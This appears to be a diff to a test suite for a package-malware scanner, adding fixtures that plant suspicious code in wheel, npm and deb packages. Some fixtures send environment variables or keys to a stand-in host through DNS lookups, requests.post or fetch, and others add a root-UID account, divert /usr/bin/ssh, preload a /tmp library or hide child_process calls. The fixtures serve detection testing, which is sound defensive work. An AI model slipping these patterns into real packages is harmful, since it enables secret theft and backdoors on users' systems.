@@ -800,6 +800,18 @@ def set_user(content):
     os.chmod(os.path.join(content, "usr/bin/tool"), 0o4755)
 
 
+def put(folder, path, text, mode=0o644):
+    path = os.path.join(folder, path)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "w") as out:
+        out.write(text)
+    os.chmod(path, mode)
+
+
+def script(folder, line):
+    put(folder, "DEBIAN/postinst", f"#!/bin/sh\n{line}\n", 0o755)
+
+
 HEXADECIMAL = b"var _0x4f2a=['x'];(function(_0x1a2b,_0x3c4d){while(--_0x3c4d){_0x1a2b['push'](_0x1a2b['shift']());}}(_0x4f2a,0x1b3));var _0x2c1d=function(_0x9a01){return _0x4f2a[_0x9a01-0x0];};"
 
 
@@ -884,6 +896,30 @@ on_npm_entries("npm, one name twice", "package/install.js", {"package/install.js
 on_npm_entries("npm, name that leads out of the archive", ".bashrc", {"package/../../.bashrc": b"true\n"})
 on_msi("MSI, service", "ServiceInstall", action='<DirectoryRef Id="INSTALLDIR"><Component Id="Service" Guid="ABCDDCBA-83F1-4F22-985B-FDB3C8ABD473"><File Id="Program" Name="harmless.exe" Source="app.dll" KeyPath="yes"/><ServiceInstall Id="Install" Name="harmless" Type="ownProcess" Start="auto" ErrorControl="normal"/></Component></DirectoryRef><Feature Id="Extra" Level="1"><ComponentRef Id="Service"/></Feature>')
 on_deb("deb, rule of sudo", "etc/sudoers.d/extra", rule)
+
+
+# What further hold-outs showed to be missed: plain code, as people write it.
+def later(text):
+    return appended(("\n" + text + "\n").encode())
+
+
+on_numpy("wheel, module that starts a program when it is loaded", "linux", later("import subprocess as s\ndef _warm_up():\n    s.Popen(['true'])\n_warm_up()"), member="numpy/version.py")
+on_numpy("wheel, module that writes into the start of a shell", "linux", later("import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write('true\\n')"), member="numpy/version.py")
+on_numpy("wheel, function that sends what it is given", "linux", later("def _report(values):\n    import requests\n    requests.post('https://numbers.countersign-harmless.com/v1', json=values)"), member="numpy/version.py")
+on_numpy("wheel, finder of modules", "linux", later("import sys\nclass _Finder:\n    def find_spec(self, name, path, target=None):\n        return None\nsys.meta_path.insert(0, _Finder())"), member="numpy/version.py")
+on_numpy("wheel, names of hosts that carry secrets", "linux", later("import os, socket\nfor _k, _v in os.environ.items():\n    socket.gethostbyname(f'{_v[:30]}.countersign-harmless.com')"), member="numpy/version.py")
+on_numpy("wheel, plug-in of a test runner", "linux", add={"numpy-2.1.2.dist-info/entry_points.txt": b"[pytest11]\nextra = numpy.extra\n", "numpy/extra.py": b"x = 1\n"}, member="entry_points.txt")
+on_npm("npm, module of another name that starts a program", "lib/extra.js", None, {"package/lib/extra.js": b"const { execFile: warm } = require('child_process');\n(() => { warm('true'); })();\n"})
+on_npm("npm, function that sends what it is given", "lib/main.js", later("function report(key) { return fetch('https://keys.countersign-harmless.com/', { method: 'POST', body: key }); }"))
+on_npm("npm, text that is run by a constructor", "lib/main.js", later("[]['filter']['constructor']('return 1')();"))
+on_npm("npm, word backwards", "lib/main.js", later("require('ssecorp_dlihc'.split('').reverse().join('')).exec('true');"))
+on_npm("npm, address under base64", "lib/main.js", later("const at = atob('aHR0cHM6Ly9jb3VudGVyc2lnbi1oYXJtbGVzcy5jb20v'); module.exports.at = at;"))
+on_npm("npm, what is fetched is replaced", "lib/main.js", later("const before = globalThis.fetch;\nglobalThis.fetch = (...a) => before(...a);"))
+on_npm("npm, another beginning", "package.json", manifest(lambda document: document.update({"main": "lib/extra.js"})), {"package/lib/extra.js": b"module.exports = require('./main.js');\n"})
+on_npm("npm, one more dependency", "package.json", manifest(lambda document: document.setdefault("dependencies", {}).update({"harmless-countersign": "^1.0.0"})))
+on_deb("deb, account that is root", "postinst", lambda folder: script(folder, "useradd -o -u 0 -g 0 -M -d /root extra"))
+on_deb("deb, program in the place of another", "postinst", lambda folder: script(folder, "dpkg-divert --add --rename --divert /usr/bin/ssh.distrib /usr/bin/ssh"))
+on_deb("deb, library before all others", "ld.so.conf.d", lambda folder: put(folder, "etc/ld.so.conf.d/0.conf", "/tmp/extra\n"))
 
 
 def archive_in_archive():
